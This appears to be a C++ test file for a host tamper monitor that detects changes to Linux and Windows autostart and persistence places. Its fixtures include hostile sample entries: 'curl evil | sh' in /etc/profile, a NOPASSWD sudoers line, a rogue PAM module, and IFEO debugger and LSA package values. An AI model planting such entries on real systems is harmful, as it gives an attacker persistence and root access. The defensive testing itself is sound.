// The autostart places "HackingExtended" adds, on real files below a root
// of the test's own (Linux) or in the registry and folders of Wine's
// Windows: nothing while the option is 0, the first reading silent, then
// each place changed alone gives exactly its lines.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <functional>

#include "fakes/recording_alerts.h"
#include "fakes/test_backends.h"
#include "monitors/tamper/hacking_module.h"
#include "platform/store/memory_policy_backend.h"

#ifndef _WIN32
#include <sys/stat.h>

#include "platform/autostart/linux_autostart.h"
#else
#include "platform/crypto/sha256.h"
#include "platform/win/unique_handle.h"
#include "platform/win/win_support.h"
#endif

namespace warderon::testing {
namespace {

namespace fs = std::filesystem;
using TLines = std::vector<std::string>;

void Write(const std::string& path, const std::string& content) {
  fs::create_directories(fs::path(path).parent_path());
  std::ofstream(path, std::ios::binary) << content;
}

struct TPlaceChange {
  const char* what;
  std::function<void()> change;
  TLines lines;  // the alert's detail lines
};

class ExtendedPlaces : public ::testing::Test {
 protected:
  ExtendedPlaces() { store_.WritePolicyBool("general", "HackingEnabled", true); }
  void Start(TAutostartSource& source) {
    module_ = std::make_unique<THackingModule>(store_, lists_, alerts_, cycle_, source);
    module_->Initialize();
  }
  TLines Cycle() {
    alerts_.alerts.clear();
    module_->Run();
    TLines lines;
    for (const auto& alert : alerts_.alerts) {
      lines.insert(lines.end(), alert.details.begin(), alert.details.end());
    }
    return lines;
  }
  // before: a change made while the option is 0 (nothing is read, and the
  // first reading then takes it in).
  void Expect(const std::function<void()>& before, const std::vector<TPlaceChange>& changes) {
    EXPECT_EQ(Cycle(), TLines{}) << "the Part's places are known";
    before();
    EXPECT_EQ(Cycle(), TLines{}) << "nothing while HackingExtended is 0";
    store_.WritePolicyBool("general", "HackingExtended", true);
    EXPECT_EQ(Cycle(), TLines{}) << "the first reading is the baseline";
    for (const TPlaceChange& step : changes) {
      step.change();
      EXPECT_EQ(Cycle(), step.lines) << step.what;
      EXPECT_EQ(Cycle(), TLines{}) << step.what << ": once";
    }
  }

  TMemoryPolicyBackend backend_;
  TPolicyStore store_{backend_};
  TRecordingAlerts alerts_;
  TCycleState cycle_;
  TBaselineLists lists_{store_, alerts_, cycle_};
  std::unique_ptr<THackingModule> module_;
};

#ifndef _WIN32
TEST_F(ExtendedPlaces, EachLinuxPlaceChangedAloneGivesItsLines) {
  const std::string root = ScratchPath("extended");
  Write(root + "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\njane:x:1000:1000::/home/jane:/bin/sh\n");
  Write(root + "/lib/systemd/system/web.service", "[Service]\nExecStart=/usr/bin/web\n");
  fs::create_directories(root + "/etc/systemd/system/multi-user.target.wants");
  fs::create_symlink("/lib/systemd/system/web.service",
                     root + "/etc/systemd/system/multi-user.target.wants/web.service");
  Write(root + "/etc/pam.d/sshd", "auth required pam_unix.so\n");
  Write(root + "/etc/profile", "umask 022\n");
  const auto source = MakeLinuxAutostartSource(root);
  Start(*source);
  // Baseline of the Part's places (the unit link is one), silently: a new install.
  cycle_.NewInstall = true;
  Cycle();
  cycle_.NewInstall = false;
  const auto added = [](const char* place, const std::string& line) {
    return TLines{"Hacking Detection", std::string("Registry Key: ") + place, "  - added: " + line,
                  ""};
  };
  Expect(
      [&] { Write(root + "/etc/pam.d/login", "auth optional pam_before.so\n"); },
      {
          {"a unit's command changed in a drop-in",
           [&] {
             Write(root + "/etc/systemd/system/web.service.d/x.conf",
                   "[Service]\nExecStartPre=/tmp/x\n");
           },
           added("unit commands",
                 "web.service: ExecStartPre=/tmp/x=/etc/systemd/system/web.service.d/x.conf")},
          {"a PAM module",
           [&] { Write(root + "/etc/pam.d/common-auth", "auth optional pam_evil.so\n"); },
           added("pam.d", "auth optional pam_evil.so=/etc/pam.d/common-auth")},
          {"a udev rule",
           [&] {
             Write(root + "/etc/udev/rules.d/99-x.rules", "ACTION==\"add\", RUN+=\"/tmp/x\"\n");
           },
           added("udev rules", "ACTION==\"add\", RUN+=\"/tmp/x\"=/etc/udev/rules.d/99-x.rules")},
          {"a sudoers line",
           [&] { Write(root + "/etc/sudoers.d/x", "jane ALL=(ALL) NOPASSWD: ALL\n"); },
           added("sudoers", "jane ALL=(ALL) NOPASSWD: ALL=/etc/sudoers.d/x")},
          {"a modprobe install line",
           [&] {
             Write(root + "/etc/modprobe.d/x.conf", "install usb-storage /tmp/x\noptions a b\n");
           },
           added("kernel modules", "install usb-storage /tmp/x=/etc/modprobe.d/x.conf")},
          {"a library path", [&] { Write(root + "/etc/ld.so.conf.d/x.conf", "/tmp/lib\n"); },
           added("ld.so.conf", "/tmp/lib=/etc/ld.so.conf.d/x.conf")},
          {"an xdg autostart Exec",
           [&] { Write(root + "/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nExec=/tmp/x\n"); },
           added("xdg autostart", "Exec=/tmp/x=/etc/xdg/autostart/x.desktop")},
          {"a user's authorized key",
           [&] { Write(root + "/home/jane/.ssh/authorized_keys", "ssh-ed25519 AAAA evil\n"); },
           added("ssh keys", "ssh-ed25519 AAAA evil=/home/jane/.ssh/authorized_keys")},
      });
  // A restart knows every place it read, empty ones too: nothing is taken
  // in silently again.
  Start(*source);
  Write(root + "/var/spool/cron/atjobs/a0001", "#!/bin/sh\n/tmp/x\n");
  const TLines at = Cycle();
  ASSERT_EQ(at.size(), 4U) << ::testing::PrintToString(at);
  EXPECT_EQ(at[1], "Registry Key: at jobs");
  // A shell start file by its digest: an edit is its removal and addition.
  Write(root + "/etc/profile", "umask 022\ncurl evil | sh\n");
  const TLines lines = Cycle();
  ASSERT_EQ(lines.size(), 5U) << ::testing::PrintToString(lines);
  EXPECT_EQ(lines[1], "  Registry Key: shell start files");
  EXPECT_EQ(lines[2].rfind("  - removed: /etc/profile=sha256 ", 0), 0U);
  EXPECT_EQ(lines[3].rfind("  - added: /etc/profile=sha256 ", 0), 0U);
}

// A place read only in part says so in its header; one that cannot be read
// (here a loop of links where a file was) is said once and forgets nothing;
// a FIFO put in a file's place never holds the cycle.
TEST_F(ExtendedPlaces, ALinuxPlaceCutShortOrUnreadableSaysSoAndForgetsNothing) {
  const std::string root = ScratchPath("extended-notes");
  const std::string sudoers = root + "/etc/sudoers";
  Write(sudoers, "jane ALL=(ALL) ALL\n");
  const auto source = MakeLinuxAutostartSource(root);
  Start(*source);
  store_.WritePolicyBool("general", "HackingExtended", true);
  cycle_.NewInstall = true;
  Cycle();
  cycle_.NewInstall = false;

  Write(sudoers, "jane ALL=(ALL) ALL\nevil ALL=(ALL) ALL\n#" + std::string(1 << 20, 'x') + "\n");
  EXPECT_EQ(Cycle(), (TLines{"Hacking Detection",
                             "Registry Key: sudoers (cut short: only the first MB of " + sudoers +
                                 " is read)",
                             "  - added: evil ALL=(ALL) ALL=/etc/sudoers", ""}));
  EXPECT_EQ(Cycle(), TLines{});

  fs::remove(sudoers);
  fs::create_symlink("sudoers", sudoers);
  EXPECT_EQ(Cycle(), TLines{}) << "no line is removed";
  ASSERT_EQ(alerts_.alerts.size(), 1U);
  EXPECT_EQ(alerts_.alerts[0].level, kAlertMonitorFailure);
  EXPECT_EQ(alerts_.alerts[0].body, "the place sudoers could not be read (" + sudoers +
                                        ": Too many levels of symbolic links); what is known "
                                        "of it is kept");
  EXPECT_EQ(Cycle(), TLines{});
  EXPECT_TRUE(alerts_.alerts.empty()) << "said once";
  Write(root + "/etc/sudoers.d/x", "bob ALL=(ALL) ALL\n");
  EXPECT_EQ(Cycle(), (TLines{"Hacking Detection", "Registry Key: sudoers",
                             "  - added: bob ALL=(ALL) ALL=/etc/sudoers.d/x", ""}))
      << "what can be read is still compared";
  fs::remove(root + "/etc/sudoers.d/x");
  fs::remove(sudoers);
  Write(sudoers, "jane ALL=(ALL) ALL\nevil ALL=(ALL) ALL\n");
  EXPECT_EQ(Cycle(), (TLines{"Hacking Detection", "  Registry Key: sudoers",
                             "  - removed: bob ALL=(ALL) ALL=/etc/sudoers.d/x", ""}))
      << "read whole again: as it was known, the line gone meanwhile removed";

  fs::remove(sudoers);
  ASSERT_EQ(mkfifo(sudoers.c_str(), 0600), 0);
  EXPECT_EQ(Cycle(), (TLines{"Hacking Detection", "  Registry Key: sudoers",
                             "  - removed: jane ALL=(ALL) ALL=/etc/sudoers",
                             "  - removed: evil ALL=(ALL) ALL=/etc/sudoers", ""}));
}
#else
// A value of HKEY_LOCAL_MACHINE set (or, with no data, the key removed).
void SetValue(const std::wstring& key, const wchar_t* name, DWORD type, const std::wstring& data) {
  HKEY opened = nullptr;
  ASSERT_EQ(RegCreateKeyExW(HKEY_LOCAL_MACHINE, key.c_str(), 0, nullptr, 0,
                            KEY_ALL_ACCESS | KEY_WOW64_64KEY, nullptr, &opened, nullptr),
            ERROR_SUCCESS);
  RegSetValueExW(opened, name, 0, type, reinterpret_cast<const BYTE*>(data.c_str()),
                 static_cast<DWORD>((data.size() + 1) * sizeof(wchar_t)));
  RegCloseKey(opened);
}

TEST_F(ExtendedPlaces, EachWindowsPlaceChangedAloneGivesItsLines) {
  const std::wstring ifeo =
      L"SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\"
      L"warderon-test.exe";
  const std::wstring lsa = L"SYSTEM\\CurrentControlSet\\Control\\Lsa";
  const std::wstring policies_run =
      L"SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run";
  const std::wstring silent_exit =
      L"SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\warderon-test.exe";
  const std::wstring boot = L"SYSTEM\\CurrentControlSet\\Control\\Session Manager";
  const auto source = MakeSystemAutostartSource();
  TAutostartKey startup;
  TAutostartKey tasks;
  std::wstring packages;      // the Security Packages as they are, to add one and put them back
  std::wstring boot_execute;  // so too BootExecute
  for (const TAutostartKey& key : source->ExtendedKeys()) {
    if (key.name == "Startup folder") startup = key;
    if (key.name == "Scheduled tasks") tasks = key;
    if (key.name != "LSA packages" && key.name != "BootExecute") continue;
    for (const TAutostartEntry& entry : source->ReadEntries(key)) {
      if (entry.name == "Security Packages" && entry.text != "evilssp") {
        packages += win::Widen(entry.text) + L'\0';
      }
      if (entry.name == "BootExecute" && entry.text != "evil.exe") {
        boot_execute += win::Widen(entry.text) + L'\0';
      }
    }
  }
  ASSERT_FALSE(startup.key_path.empty());
  const std::string startup_file = startup.key_path + "\\warderon-test.bat";
  const std::string second_file = startup.key_path + "\\warderon-test2.bat";
  const std::string startup_text = "start evil.exe\r\n";
  const std::string startup_digest = HexDigest(Sha256(startup_text));
  // A task as the scheduler writes it: UTF-16 with its byte-order mark.
  ASSERT_FALSE(tasks.key_path.empty());
  const std::string task_file = tasks.key_path + "\\warderon-test";
  const std::wstring task_xml =
      L"<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Actions><Exec>"
      L"<Command>C:\\evil\\x.exe</Command><Arguments>-quiet</Arguments></Exec></Actions></Task>";
  std::string task_bytes = "\xFF\xFE";
  task_bytes.append(reinterpret_cast<const char*>(task_xml.data()), task_xml.size() * 2);
  // What the test adds goes again at its end, and first, should an earlier
  // run have stopped half way.
  const auto clean = [&] {
    RegDeleteTreeW(HKEY_LOCAL_MACHINE, ifeo.c_str());
    RegDeleteTreeW(HKEY_LOCAL_MACHINE, silent_exit.c_str());
    RegDeleteKeyValueW(HKEY_LOCAL_MACHINE, policies_run.c_str(), L"updater");
    SetValue(boot, L"BootExecute", REG_MULTI_SZ, boot_execute);
    SetValue(lsa, L"Security Packages", REG_MULTI_SZ, packages);
    for (const std::string& file : {startup_file, second_file, task_file}) {
      std::filesystem::remove(file);
    }
  };
  clean();
  Start(*source);
  cycle_.NewInstall = true;  // the Part's places of this prefix, silently
  Cycle();
  cycle_.NewInstall = false;
  const auto added = [](const char* place, const std::string& line) {
    return TLines{"Hacking Detection", std::string("Registry Key: ") + place, "  - added: " + line,
                  ""};
  };
  Expect([&] { SetValue(ifeo, L"GlobalFlag", REG_SZ, L"0"); },
         {
             {"an IFEO debugger",
              [&] { SetValue(ifeo, L"Debugger", REG_SZ, L"C:\\evil\\debugger.exe"); },
              added("IFEO Debugger", "warderon-test.exe=C:\\evil\\debugger.exe")},
             {"a policy Run value",
              [&] { SetValue(policies_run, L"updater", REG_SZ, L"C:\\evil\\run.exe"); },
              added("Policies Run", "updater=C:\\evil\\run.exe")},
             {"a silent process exit monitor",
              [&] { SetValue(silent_exit, L"MonitorProcess", REG_SZ, L"C:\\evil\\mon.exe"); },
              added("SilentProcessExit", "warderon-test.exe=C:\\evil\\mon.exe")},
             {"a boot program",
              [&] { SetValue(boot, L"BootExecute", REG_MULTI_SZ, boot_execute + L"evil.exe"); },
              added("BootExecute", "BootExecute=evil.exe")},
             {"a security package item",
              [&] { SetValue(lsa, L"Security Packages", REG_MULTI_SZ, packages + L"evilssp"); },
              added("LSA packages", "Security Packages=evilssp")},
             {"a file in the Startup folder", [&] { Write(startup_file, startup_text); },
              added("Startup folder", "warderon-test.bat=sha256 " + startup_digest)},
             {"a scheduled task", [&] { Write(task_file, task_bytes); },
              added("Scheduled tasks", "warderon-test=C:\\evil\\x.exe -quiet ; sha256 " +
                                           HexDigest(Sha256(task_bytes)))},
         });
  // A file another program holds open without sharing cannot be read: said
  // once, and the folder's other files are still read; nothing is removed.
  {
    const win::TFileHandle held(CreateFileW(win::Widen(startup_file).c_str(), GENERIC_READ, 0,
                                            nullptr, OPEN_EXISTING, FILE_ATTRIBUTE_NORMAL,
                                            nullptr));
    ASSERT_TRUE(held.Valid());
    Write(second_file, startup_text);
    EXPECT_EQ(Cycle(), added("Startup folder", "warderon-test2.bat=sha256 " + startup_digest));
    ASSERT_EQ(alerts_.alerts.size(), 2U);
    EXPECT_EQ(alerts_.alerts[0].body,
              "the place Startup folder could not be read (warderon-test.bat cannot be read); "
              "what is known of it is kept");
  }
  clean();
}
#endif

}  // namespace
}  // namespace warderon::testing
